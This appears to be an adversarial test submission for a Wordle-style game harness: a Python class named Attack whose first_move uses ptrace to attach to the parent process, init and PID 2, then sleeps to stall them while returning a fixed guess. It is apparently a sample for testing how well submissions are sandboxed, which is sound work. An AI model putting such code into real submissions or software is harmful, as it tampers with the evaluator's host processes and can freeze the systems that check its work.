"""Reads the memory of the processes it can see, and attaches to them."""

import ctypes
import os
import time


class Attack:
    def first_move(self):
        libc = ctypes.CDLL(None, use_errno=True)
        for target in (os.getppid(), 1, 2):
            if target != os.getpid() and libc.ptrace(16, target, 0, 0) == 0:
                time.sleep(1000)
        return "aback", 0

    def next_move(self, guess, epsilon, clues):
        return "aback", 0
